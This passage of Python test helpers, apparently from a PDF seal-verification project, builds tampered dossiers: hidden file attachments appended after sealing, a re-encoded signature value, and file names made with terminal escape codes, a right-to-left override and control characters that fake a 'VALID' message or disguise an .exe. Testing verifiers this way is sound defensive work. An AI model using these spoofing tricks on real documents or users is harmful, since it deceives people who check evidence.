        (spec, b"<< /Type /Filespec /F (refund_receipt.txt) /UF (refund_receipt.txt) /EF << /F %d 0 R /UF %d 0 R >> >>"
         % (stream, stream)),
        (annot, b"<< /Type /Annot /Subtype /FileAttachment /Rect [40 40 60 70] /Name /PushPin /FS %d 0 R "
                b"/Contents (refund receipt) /F 4 >>" % spec),
    ])


def af_only_file(path: Path, where: str = "catalog") -> None:
    """A file reachable only through an /AF array (the catalog's or the first page's)."""
    data = path.read_bytes()
    tail = read_tail(data)
    stream, spec = tail.size, tail.size + 1
    num = tail.root if where == "catalog" else _page_refs(data)[0]
    body = object_body(data, num, tail)
    if re.search(rb"/AF\s*\[", body):
        body = re.sub(rb"/AF\s*\[", b"/AF [%d 0 R " % spec, body, count=1)
    else:
        body = with_entries(body, b"/AF [%d 0 R]" % spec)
    append_revision(path, [
        (num, body), (stream, embedded_file_stream(EVIL_BYTES)),
        (spec, b"<< /Type /Filespec /F (refund_receipt.txt) /UF (refund_receipt.txt) /EF << /F %d 0 R /UF %d 0 R >> "
               b"/AFRelationship /Supplement >>" % (stream, stream)),
    ])


# 14: the seal's /Contents re-encoded: the same CMS, other hex
def reencode_seal_value(path: Path, style: str = "case") -> None:
    """``case``: hex digits in the other case; ``spaced``: whitespace every 64 digits, the
    zero padding shortened to keep the reserved space's size."""
    data = path.read_bytes()
    start, end = signature_gap(path)
    hexed = data[start + 1:end - 1]
    if style == "case":
        new = hexed.lower() if hexed.upper() == hexed else hexed.upper()
    else:
        value = hexed.rstrip(b"0")
        value += b"0" * (len(value) % 2)
        spaced = b"\n".join(value[i:i + 64] for i in range(0, len(value), 64))
        pad = len(hexed) - len(spaced)
        new = spaced + b" " * (pad % 2) + b"0" * (pad - pad % 2)
    assert len(new) == len(hexed) and new != hexed
    path.write_bytes(data[:start + 1] + new + data[end - 1:])


# 15: file names that would drive a terminal
HOSTILE_NAMES = (
    "\x1b[2K\x1b[1G\x1b[32m有效：卷宗自封存以来没有被改动 VALID\x1b[0m.txt",  # erases the line, a green VALID
    "invoice\u202etxt.exe",                             # right-to-left override: shows as invoiceexe.txt
    "\u2066receipt\u2069\u2067.pdf\u2069.txt",           # isolates
    "bell\x07and\x9bC1.txt",                              # BEL and a C1 control sequence introducer
)


def write_hostile_case(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for i, name in enumerate(HOSTILE_NAMES):
        (folder / name).write_bytes(b"evidence %d\n" % i)
    return folder


def unsealed_prefix(data: bytes) -> bytes:
    """A freshly bundled dossier without its seal: the bytes up to the revision before the
    last (an attacker who prepares the file before it is sealed starts here)."""
    tail = read_tail(data)
    trailer, _ = _xref_section(data, tail.startxref)
    prev = int(re.search(rb"/Prev\s+(\d+)", trailer).group(1))  # type: ignore[union-attr]
    end = data.index(b"%%EOF", prev) + len(b"%%EOF")
    return data[:end] + b"\n"
